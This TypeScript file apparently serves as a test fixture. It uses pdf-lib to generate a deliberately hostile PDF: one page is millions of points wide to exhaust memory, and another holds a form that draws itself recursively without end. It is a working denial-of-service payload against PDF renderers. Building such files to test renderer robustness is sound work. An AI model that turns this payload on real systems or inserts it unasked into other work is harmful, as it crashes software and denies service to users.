import { PDFDocument, PDFName, type PDFPage, PDFRawStream } from "pdf-lib";

/** A PDF that attacks renderers. */
const FIELD = 14_400_000;

/** Draws a form that contains itself, endlessly. */
const drawForEver = (pdf: PDFDocument, page: PDFPage): void => {
  const { context } = pdf;
  const itself = context.nextRef();
  const how = { Type: "XObject", Subtype: "Form", BBox: [0, 0, 595, 842], Resources: { XObject: { Again: itself } } };
  context.assign(itself, PDFRawStream.of(context.obj(how), Buffer.from("q /Again Do Q")));
  page.node.set(PDFName.of("Contents"), context.register(PDFRawStream.of(context.obj({}), Buffer.from("/Again Do"))));
  page.node.set(PDFName.of("Resources"), context.obj({ XObject: { Again: itself } }));
};

/** A valid PDF that attacks a renderer: a huge first page, and a second that recurses endlessly. */
export const hostilePdf = async (): Promise<Buffer> => {
  const pdf = await PDFDocument.create({ updateMetadata: false });
  const field = pdf.addPage([FIELD, FIELD]);
  field.drawRectangle({ x: 0, y: FIELD / 2, width: FIELD / 2, height: FIELD / 2 });
  drawForEver(pdf, pdf.addPage([FIELD, FIELD]));
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
};
